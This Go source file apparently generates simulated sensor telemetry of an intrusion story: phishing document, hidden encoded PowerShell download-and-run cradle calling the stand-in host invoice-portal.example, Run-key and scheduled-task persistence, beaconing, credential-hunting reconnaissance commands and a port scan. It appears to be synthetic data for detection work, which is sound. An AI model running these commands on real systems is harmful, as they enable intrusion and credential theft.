package story

import (
	"encoding/base64"
	"encoding/binary"
	"strconv"
	"time"
	"unicode/utf16"
)

// Where the intruder's servers are.
const (
	mailerDomain = "invoice-portal.example"
	mailerAddr   = "203.0.113.45:80"
	beaconDomain = "updates.cdn-edge-cache.example"
	beaconAddr   = "203.0.113.77:443"
	dropDomain   = "files.sync-box.example"
	dropAddr     = "198.51.100.201:443"
)

const (
	winword    = `c:\program files\microsoft office 15\root\office15\winword.exe`
	powershell = system32 + `windowspowershell\v1.0\powershell.exe`
	beaconPath = `c:\programdata\winhelp\wmihost.exe`
)

// encoded gives a PowerShell command as its option -enc takes it.
func encoded(command string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(command)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// foothold is what the intruder has on an endpoint.
type foothold struct {
	*host
	beacon *Process
}

// phish tells how the intruder gets in: a mail, a document, a script, a dropper, a beacon. It gives the foothold.
func (t *teller) phish(h *host) foothold {
	user := h.DomainName() + `\` + h.User
	t0 := day(10, 13, 42)
	outlook := t.run(h.explorer, launch{Path: `c:\program files\microsoft office 15\root\office15\outlook.exe`, Cmd: `"C:\Program Files\Microsoft Office 15\root\office15\OUTLOOK.EXE"`, User: user, At: day(10, 7, 58), For: 10 * time.Hour})
	attachment := `c:\users\` + h.User + `\appdata\local\microsoft\windows\temporary internet files\content.outlook\q3x0a1vk\invoice_88213.docm`
	t.write(outlook, t0.Add(-4*time.Second), attachment, "5d1f8f0b8a3d1fa2f7cc0c7d2f6fb9c4", TypeDocx)
	word := t.run(outlook, launch{Path: winword, Cmd: `"C:\Program Files\Microsoft Office 15\root\office15\WINWORD.EXE" /n "` + attachment + `"`, At: t0, For: 22 * time.Minute})
	t.load(word, t0.Add(3*time.Second), `c:\program files\common files\microsoft shared\vba\vba7.1\vbe7.dll`)
	script := `$c=New-Object Net.WebClient;$p="$env:temp\svch0st.exe";$c.DownloadFile('http://` + mailerDomain + `/inv/a.dat',$p);Start-Process $p`
	ps := t.run(word, launch{Path: powershell, Cmd: `powershell.exe -NoP -NonI -W Hidden -Enc ` + encoded(script), At: t0.Add(9 * time.Second), For: 14 * time.Second})
	t.connect(ps, t0.Add(11*time.Second), mailerAddr, mailerDomain)
	dropped := `c:\users\` + h.User + `\appdata\local\temp\svch0st.exe`
	t.drop(ps, t0.Add(13*time.Second), dropped)
	dropper := t.run(ps, launch{Path: dropped, Cmd: `"C:\Users\` + h.User + `\AppData\Local\Temp\svch0st.exe" `, At: t0.Add(15 * time.Second), For: 48 * time.Second})
	beacon := t.install(dropper, t0.Add(20*time.Second))
	t.erase(dropper, t0.Add(55*time.Second), attachment)
	return foothold{h, beacon}
}

// install tells how a dropper leaves the beacon behind and makes it come back.
func (t *teller) install(dropper *Process, when time.Time) *Process {
	t.drop(dropper, when, beaconPath)
	t.registry(dropper, when.Add(2*time.Second), ValueWritten, `\registry\user\`+dropper.UID+`\software\microsoft\windows\currentversion\run\winhelpsvc`)
	tasks := t.run(dropper, launch{Path: system32 + "schtasks.exe", Cmd: `schtasks /create /sc onlogon /tn "Windows Help Update" /tr ` + beaconPath, At: when.Add(4 * time.Second), For: 300 * time.Millisecond})
	t.write(tasks, when.Add(4100*time.Millisecond), system32+`tasks\windows help update`, "", TypeUnknown)
	return t.run(dropper, launch{Path: beaconPath, Cmd: beaconPath + ` -k netsvcs`, At: when.Add(6 * time.Second)})
}

// call tells the beacon's calls home, from its start until the story's clock: about every ten minutes, in reports of
// the sensor each two hours.
func (t *teller) callHome(beacon *Process) {
	r := newRandom("beacon " + beacon.Endpoint.Name)
	now := t.story.Now
	next := beacon.Start.Add(2 * time.Hour)
	for when := beacon.Start.Add(time.Second); when.Before(now.Add(-time.Minute)); when = when.Add(r.span(9*time.Minute, 11*time.Minute)) {
		t.connect(beacon, when.Truncate(time.Millisecond), beaconAddr, beaconDomain)
		if when.After(next) {
			t.report(beacon, when.Add(20*time.Second).Truncate(time.Millisecond))
			next = next.Add(2 * time.Hour)
		}
	}
}

// lookAround tells the intruder's first hour: one command shell and more than twenty commands.
func (t *teller) lookAround(f foothold) {
	t0 := day(10, 15, 8)
	shell := t.run(f.beacon, launch{Path: system32 + "cmd.exe", Cmd: `cmd.exe`, At: t0, For: 71 * time.Minute})
	commands := []struct{ file, cmd string }{
		{"whoami.exe", "whoami  /all"}, {"hostname.exe", "hostname"}, {"ipconfig.exe", "ipconfig  /all"}, {"systeminfo.exe", "systeminfo"},
		{"tasklist.exe", "tasklist  /v"}, {"netstat.exe", "netstat  -ano"}, {"arp.exe", "arp  -a"}, {"route.exe", "route  print"},
		{"net.exe", "net  view /domain"}, {"net.exe", `net  group "Domain Admins" /domain`}, {"net.exe", `net  group "Domain Controllers" /domain`},
		{"net.exe", "net  localgroup administrators"}, {"net.exe", `net  user svc_backup /domain`}, {"nltest.exe", "nltest  /dclist:brightwater"},
		{"nltest.exe", "nltest  /domain_trusts"}, {"quser.exe", "quser"}, {"qwinsta.exe", "qwinsta  /server:SRV-FILE01"},
		{"reg.exe", `reg  query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`}, {"sc.exe", "sc  query type= service state= all"},
		{"cmdkey.exe", "cmdkey  /list"}, {"findstr.exe", `findstr  /si password *.xml *.ini *.txt`}, {"netsh.exe", "netsh  wlan show profiles"},
		{"wmic.exe", `wmic  /namespace:\\root\securitycenter2 path antivirusproduct get displayname`},
	}
	for i, c := range commands {
		when := t0.Add(time.Duration(20+170*i) * time.Second)
		p := t.run(shell, launch{Path: system32 + c.file, Cmd: c.cmd, At: when, For: 700 * time.Millisecond})
		if c.file == "net.exe" {
			t.run(p, launch{Path: system32 + "net1.exe", Cmd: `C:\Windows\system32\net1 ` + c.cmd[5:], At: when.Add(30 * time.Millisecond), For: 500 * time.Millisecond})
		}
	}
}

// scan tells the port scan of the server network: many connections in little time.
func (t *teller) scan(f foothold) {
	t0 := day(10, 16, 31)
	tool := `c:\programdata\winhelp\nb.exe`
	t.drop(f.beacon, t0.Add(-30*time.Second), tool)
	p := t.run(f.beacon, launch{Path: tool, Cmd: tool + ` -r 10.20.2.0/24 -p 135,139,445,3389`, At: t0, For: 5 * time.Second})
	for i := range 800 {
		port := []string{"135", "139", "445", "3389"}[i%4]
		t.connect(p, t0.Add(time.Duration(100+6*i)*time.Millisecond), "10.20.2."+strconv.Itoa(1+i/4)+":"+port, "")
	}
	t.erase(f.beacon, t0.Add(40*time.Second), tool)
}
